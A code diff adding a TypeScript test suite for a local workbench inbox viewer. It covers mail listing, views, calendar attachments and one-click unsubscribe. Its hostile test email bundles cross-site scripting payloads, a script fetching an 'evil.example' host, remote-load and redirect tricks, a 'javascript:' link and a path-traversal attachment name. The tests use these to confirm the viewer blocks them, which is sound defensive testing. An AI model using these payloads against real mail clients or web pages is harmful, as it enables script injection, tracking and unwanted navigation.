@@ -1,0 +1,175 @@
+// Takes a workbench with mails; specifies what its inbox shows: every mail as its reader gets it, and nothing that a mail could do. Never a mail from outside.
+import { createTransport } from 'nodemailer';
+import type { Browser } from 'playwright-core';
+import { afterAll, describe, expect, it } from 'vitest';
+import { launchBrowser } from '../../workbench/src/browser/launch.ts';
+import { move, sharedWorkbench, start, type Workbench } from './workbench.ts';
+
+let browser: Browser | undefined;
+afterAll(() => browser?.close());
+
+async function text(url: string, more: RequestInit = {}): Promise<string> {
+  const answer = await fetch(url, more);
+  expect(answer.status).toBe(200);
+  return answer.text();
+}
+
+const mailsOf = ({ bench }: Workbench) => bench.company().engine.inbox.mails();
+
+function numberOf(workbench: Workbench, kind: string): number {
+  const found = mailsOf(workbench).find(({ raw }) =>
+    raw.toString('latin1').includes(`Message-ID: <${kind}-`),
+  );
+  expect(found, `a mail of the kind ${kind}`).toBeDefined();
+  return found!.number;
+}
+
+/** Hands a message to the inbox's own server as any program could. */
+async function deliver(workbench: Workbench, raw: string): Promise<number> {
+  const transport = createTransport({ host: '127.0.0.1', port: workbench.bench.company().engine.inbox.port });
+  await transport.sendMail({ envelope: { from: 'x@evil.example', to: ['tan.wen@team.example'] }, raw });
+  transport.close();
+  return mailsOf(workbench).at(-1)!.number;
+}
+
+const HOSTILE = `From: "<script>" <x@evil.example>
+To: tan.wen@team.example
+Subject: =?utf-8?B?${Buffer.from('<img src=x onerror=alert(1)> 你好').toString('base64')}?=
+Message-ID: <hostile@evil.example>
+MIME-Version: 1.0
+Content-Type: multipart/mixed; boundary=b
+
+--b
+Content-Type: text/html; charset=utf-8
+
+<html><head><base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
+<link rel="stylesheet" href="http://evil.example/a.css"><style>@import url(http://evil.example/b.css); body{background:url(http://evil.example/c.png)}</style></head>
+<body onload="top.pwned=1"><script>top.pwned=1;fetch('http://evil.example/s')</script><img src="http://evil.example/i.png"><iframe src="http://evil.example/f"></iframe>
+<form action="http://evil.example/form"><button id="go">Go</button></form><a id="link" href="javascript:top.pwned=1">press</a><p id="seen">hello</p></body></html>
+--b
+Content-Type: text/html; name="../../evil.html"
+Content-Disposition: attachment; filename="../../evil.html"
+
+<script>alert(1)</script>
+--b--
+`.replaceAll('\n', '\r\n');
+
+describe('the inbox', () => {
+  const shared = sharedWorkbench();
+
+  it('lists every mail, newest first, and those of a person or of a kind', async () => {
+    const workbench = shared();
+    const all = await text(`${workbench.url}/inbox/list`);
+    const numbers = [...all.matchAll(/mail=(\d+)/g)].map(([, number]) => Number(number));
+    expect(numbers).toEqual(
+      mailsOf(workbench)
+        .map(({ number }) => number)
+        .reverse(),
+    );
+    const [first] = mailsOf(workbench);
+    const own = await text(`${workbench.url}/inbox/list?to=${encodeURIComponent(first!.to[0]!)}`);
+    const expected = mailsOf(workbench).filter(({ to }) => to[0] === first!.to[0]).length;
+    expect([...own.matchAll(/class="mail-line" href/g)].length).toBe(expected);
+    const meetings = await text(`${workbench.url}/inbox/list?kind=meeting&lang=zh`);
+    expect(meetings).toContain('解码会');
+    expect(meetings).not.toContain('>周报<');
+  });
+
+  it('shows a mail as mail, as text and as it came, and hands out its calendar entry', async () => {
+    const workbench = shared();
+    const number = numberOf(workbench, 'meeting');
+    const page = await text(`${workbench.url}/inbox?mail=${number}`);
+    expect(page).toContain(`src="/inbox/mail/${number}/html"`);
+    expect(page).toMatch(/<iframe[^>]* sandbox="allow-popups allow-popups-to-escape-sandbox"/);
+    expect(await text(`${workbench.url}/inbox?mail=${number}&view=text`)).toContain('2025-01-02');
+    expect(await text(`${workbench.url}/inbox?mail=${number}&view=source`)).toContain(
+      'List-Unsubscribe-Post',
+    );
+    const [, path] = /href="(\/inbox\/mail\/\d+\/attachment\/\d+)"/.exec(page)!;
+    const calendar = await fetch(`${workbench.url}${path}`);
+    expect(calendar.headers.get('content-disposition')).toContain('attachment');
+    expect(await calendar.text()).toContain('BEGIN:VCALENDAR');
+  });
+
+  it('says what is not there', async () => {
+    const { url } = shared();
+    expect((await fetch(`${url}/inbox/mail/99999/html`)).status).toBe(404);
+    expect(await text(`${url}/inbox?mail=99999`)).toContain('This mail is not here.');
+  });
+
+  it('has links that lead to the live back end', async () => {
+    const workbench = shared();
+    const html = await text(`${workbench.url}/inbox/mail/${numberOf(workbench, 'reminder')}/html`);
+    const [link] = [...html.matchAll(/href="(http:[^"]+\/f\/[^"]+)"/g)].map(([, url]) => url!);
+    expect(link!.startsWith(workbench.backEndUrl)).toBe(true);
+    expect((await fetch(link!)).status).toBe(200);
+  });
+
+  it('shows a hostile mail’s text, and lets it run, load, send and move nothing', async () => {
+    const workbench = shared();
+    const number = await deliver(workbench, HOSTILE);
+    const list = await text(`${workbench.url}/inbox/list`);
+    expect(list).toContain('&lt;img src=x onerror=alert(1)> 你好');
+    const attachment = await fetch(`${workbench.url}/inbox/mail/${number}/attachment/0`);
+    expect(attachment.headers.get('content-disposition')).toMatch(/^attachment/);
+    expect(attachment.headers.get('content-security-policy')).toContain('sandbox');
+
+    browser ??= await launchBrowser();
+    const page = await browser.newPage();
+    const asked: string[] = [];
+    page.on('request', (request) => asked.push(request.url()));
+    await page.goto(`${workbench.url}/inbox?mail=${number}`);
+    const frame = page.frameLocator('iframe.letter');
+    await frame.locator('#seen').waitFor();
+    await frame.locator('#go').click();
+    await frame.locator('#link').click();
+    await page.evaluate(() => fetch('/inbox/list').then((answer) => answer.text()));
+    expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
+    expect(page.url()).toBe(`${workbench.url}/inbox?mail=${number}`);
+    expect(await frame.locator('#seen').textContent()).toBe('hello');
+    expect(asked.filter((url) => !url.startsWith(workbench.url))).toEqual([]);
+    await page.close();
+  });
+
+  it('shows a new mail without being loaded again', async () => {
+    const workbench = shared();
+    browser ??= await launchBrowser();
+    const page = await browser.newPage();
+    await page.goto(`${workbench.url}/inbox`);
+    await deliver(
+      workbench,
+      HOSTILE.replace('<hostile@', '<another@').replace('=?utf-8?B?', 'Just arrived =?utf-8?B?'),
+    );
+    await page.getByText('Just arrived').first().waitFor();
+    await page.close();
+  });
+});
+
+describe('one click', () => {
+  it('unsubscribes: mails of that kind do not come to that person any more', async () => {
+    const workbench = await start();
+    const number = numberOf(workbench, 'digest');
+    const reader = mailsOf(workbench).find((mail) => mail.number === number)!.to[0]!;
+    const answer = await text(`${workbench.url}/inbox/mail/${number}/unsubscribe?lang=en`, {
+      method: 'POST',
+    });
+    expect(answer).toContain('Unsubscribed: the back end answered 200.');
+    const before = mailsOf(workbench).length;
+    for (let day = 0; day < 10; day += 1) await move(workbench, 'next-day');
+    const since = mailsOf(workbench).slice(before);
+    const digests = since.filter(({ raw }) => /^message-id: <digest-/im.test(raw.toString('latin1')));
+    expect(since.length).toBeGreaterThan(0);
+    expect(digests.map(({ to }) => to[0])).not.toContain(reader);
+  });
+
+  it('asks nobody but the live back end, whatever a mail says', async () => {
+    const workbench = await start();
+    const elsewhere = HOSTILE.replace(
+      'MIME-Version',
+      'List-Unsubscribe: <http://evil.example/u/x>\r\nList-Unsubscribe-Post: List-Unsubscribe=One-Click\r\nMIME-Version',
+    );
+    const number = await deliver(workbench, elsewhere);
+    const answer = await fetch(`${workbench.url}/inbox/mail/${number}/unsubscribe`, { method: 'POST' });
+    expect(answer.status).toBe(404);
+  });
+});
